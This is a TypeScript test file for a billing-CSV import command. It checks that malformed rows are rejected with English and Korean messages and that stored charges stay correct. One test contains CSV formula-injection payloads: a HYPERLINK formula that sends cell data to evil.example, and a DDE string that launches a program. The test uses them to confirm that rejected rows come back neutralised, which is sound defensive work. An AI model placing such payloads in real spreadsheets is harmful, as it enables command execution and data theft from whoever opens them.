import { readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import { afterAll, describe, expect, it } from 'vitest'
import { commandLine } from '../support/command-line.ts'
import { fileWith } from '../support/file.ts'
import { file } from '../support/focus-file.ts'

const { run, state, close } = await commandLine()
afterAll(close)
const stored = () => state.charges.charges(state.tenant, '2000-01-01', '2099-12-31')

const HEADER = 'date,provider,model,team,input_tokens,cost,currency'
const row = (day: string, cells = 'openai,gpt-6-luna,support,10,1,USD') => `${day},${cells}`

describe('a file with a bad row on the command line', () => {
  it.each<[string, string, string, string]>([
    ['a date that could be two days', '4/5/26,o,m,t,1,1,USD', 'could be two days', '두 가지 날짜'],
    ['a date that is none', '2026-02-30,o,m,t,1,1,USD', '"2026-02-30"', '"2026-02-30"'],
    ['a date of another century', '0026-12-01,o,m,t,1,1,USD', '2000 to 2099', '2000~2099년'],
    ['too few cells', '2026-12-01,openai', 'has 2 cells and the header 7', '칸은 2개인데'],
    ['too many cells', '2026-12-01,o,m,t,1,1,USD,', 'has 8 cells', '칸은 8개인데'],
    ['money that is no number', '2026-12-01,o,m,t,1,NaN,USD', '"NaN"', '"NaN"'],
    ['money without end', '2026-12-01,o,m,t,1,Infinity,USD', '"Infinity"', '"Infinity"'],
    ['no money', '2026-12-01,o,m,t,1,,USD', 'cost: ""', 'cost: ""'],
    ['tokens below zero', '2026-12-01,o,m,t,-4,1,USD', '"-4"', '"-4"'],
    ['a currency that is no code', '2026-12-01,o,m,t,4,1,dollars', '"dollars"', '"dollars"'],
    ['a currency that there is not', '2026-12-01,o,m,t,4,1,ZZZ', '"ZZZ"', '"ZZZ"'],
    ['a formula for an amount', '2026-12-01,o,m,t,4,=1+1,USD', '"=1+1"', '"=1+1"'],
    ['a formula for tokens', '2026-12-01,o,m,t,@SUM(A1),1,USD', '"@SUM(A1)"', '"@SUM(A1)"'],
  ])('%s is taken without that row, whose line is told', async (_, bad, en, ko) => {
    const path = fileWith(`${HEADER}\n${row('2026-12-01')}\n${bad}\n${row('2026-12-02')}`)
    const { code, out } = await run('import', path)
    expect([code, out]).toEqual([0, expect.stringContaining('Rows read 3, kept 2, rejected 1')])
    expect(out).toMatch(/bill\.csv, line 3: /)
    expect(out).toContain(en)
    const korean = (await run('import', path, '--lang', 'ko')).out
    expect(korean).toMatch(/bill\.csv, 3번째 줄: .*니다/)
    expect(korean).toContain(ko)
    const kept = (await stored()).filter((c) => c.day >= '2026-12-01')
    expect(kept.map((c) => [c.day, c.effectiveNano])).toEqual([
      ['2026-12-01', 1_000_000_000n],
      ['2026-12-02', 1_000_000_000n],
    ])
  })

  it.each<[string, Partial<Record<string, string>>, string]>([
    [
      'a date that could be two days',
      { ChargePeriodStart: '4/5/25', ChargePeriodEnd: '' },
      'could be two days',
    ],
    [
      'a date that is none',
      { ChargePeriodStart: '2026-02-30T00:00:00Z' },
      '"2026-02-30T00:00:00Z"',
    ],
    ['a date of another century', { ChargePeriodStart: '3026-11-18' }, '2000 to 2099'],
    ['a category that there is not', { ChargeCategory: 'Gift' }, '"Gift" is none of Usage'],
    ['money that is no number', { BilledCost: 'NaN' }, 'BilledCost: "NaN"'],
    ['money without end', { EffectiveCost: '1e400' }, 'EffectiveCost: "1e400"'],
    ['no money', { EffectiveCost: '' }, 'EffectiveCost: ""'],
    ['tokens below zero', { ConsumedQuantity: '-5' }, '"-5" tokens are fewer than none'],
    ['a currency that is no code', { BillingCurrency: 'dollars' }, '"dollars"'],
    ['a currency that there is not', { BillingCurrency: 'ZZZ' }, '"ZZZ"'],
    ['a formula for an amount', { EffectiveCost: '=1+1' }, '"=1+1"'],
  ])('of FOCUS with %s is taken without that row, whose line is told', async (_, bad, reason) => {
    const path = fileWith(file([{}, bad, {}]))
    const report = JSON.parse((await run('import', path, '--json')).out)
    expect(report).toMatchObject({ read: 3, kept: 2, rejected: [{ line: 3, file: 'bill.csv' }] })
    expect(report.rejected[0].reason.en).toContain(reason)
    expect(report.rejected[0].reason.ko).toMatch(/[가-힣].*니다/)
    const focus = (await stored()).filter((c) => c.source === 'focus')
    expect(focus.map((c) => c.effectiveNano)).toEqual([2_500_000_000n])
  })

  it('in which a credit is below zero is taken whole', async () => {
    const path = fileWith(`${HEADER}\n${row('2026-12-04', 'openai,m,t,,-3.5,USD')}`)
    expect((await run('import', path)).out).toContain('Rows read 1, kept 1, rejected 0')
    expect((await stored()).find((c) => c.day === '2026-12-04')?.effectiveNano).toBe(
      -3_500_000_000n,
    )
  })
  it('keeps the days that it knows to those between its charges, whatever date slipped in', async () => {
    const slip = {
      ChargePeriodStart: '2062-11-18T00:00:00Z',
      ChargePeriodEnd: '2062-11-19T00:00:00Z',
    }
    const days = ['16', '18'].map((day) => ({
      ChargePeriodStart: `2026-11-${day}T00:00:00Z`,
      ChargePeriodEnd: `2026-11-${Number(day) + 1}T00:00:00Z`,
    }))
    await run('import', fileWith(file([...days, slip])))
    const known = await state.charges.knownDays(state.tenant, '2000-01-01', '2099-12-31')
    expect(known.filter((d) => d.source === 'focus').map((d) => d.day)).toEqual([
      '2026-11-16',
      '2026-11-17',
      '2026-11-18',
      '2062-11-18',
    ])
  })
  it('with rows in several currencies is never summed over them', async () => {
    const path = fileWith(
      `${HEADER}\n${row('2026-12-07')}\n${row('2026-12-07', 'openai,gpt-6-luna,support,1,2,EUR')}`,
    )
    const { out } = await run('import', path)
    expect(out).toContain('EUR: effective €2.00')
    expect(out).toContain('USD: effective $1.00')
    const { out: digest } = await run('digest', '--period', '2026-12-07')
    expect(digest).toContain('€2.00')
    expect(digest).not.toContain('3.00')
  })
  it('hands its refused rows back disarmed, and names that look like formulas stay text', async () => {
    const evil = '=HYPERLINK(""http://evil.example?""&A1)'
    const bad = `2026-12-09,openai,m,"${evil}",4,"=cmd|' /C calc'!A0",USD`
    const fine = `2026-12-09,openai,m,"${evil}",4,1,USD`
    const rejects = fileWith('', 'rejects.csv')
    await run('import', fileWith(`${HEADER}\n${bad}\n${fine}`), '--rejects', rejects)
    const [, [, line, , ...cells] = []] = parse(readFileSync(rejects), {
      relax_column_count: true,
    }) as string[][]
    expect(line).toBe('2')
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
    expect(cells).toContain(`'=cmd|' /C calc'!A0`)
    expect((await stored()).find((c) => c.day === '2026-12-09')?.team).toBe(
      '=HYPERLINK("http://evil.example?"&A1)',
    )
  })
  it('writes every refused row to the file, in the language asked for, also when there are many', async () => {
    const rejects = fileWith('', 'rejects.csv')
    const many = Array.from({ length: 60 }, (_, i) => `soon,o,m,t,${i},1,USD`)
    const path = fileWith([HEADER, row('2026-12-10'), ...many].join('\n'))
    const { out } = await run('import', path, '--rejects', rejects, '--lang', 'ko')
    expect(out).toContain('거부된 행이 40개 더 있습니다')
    const rows = parse(readFileSync(rejects), { relax_column_count: true }) as string[][]
    expect(rows.slice(1).map(([, line]) => Number(line))).toEqual(many.map((_, i) => i + 3))
    expect(rows.at(-1)).toEqual([
      'bill.csv',
      '62',
      expect.stringMatching(/"soon".*아닙니다/),
      'soon',
      'o',
      'm',
      't',
      '59',
      '1',
      'USD',
    ])
  })
  it('with nothing but bad rows changes nothing that was stored', async () => {
    const before = await stored()
    const { out } = await run('import', fileWith(`${HEADER}\nsoon,o,m,t,1,1,USD`))
    expect(out).toContain('Rows read 1, kept 0, rejected 1')
    expect(await stored()).toEqual(before)
  })
})
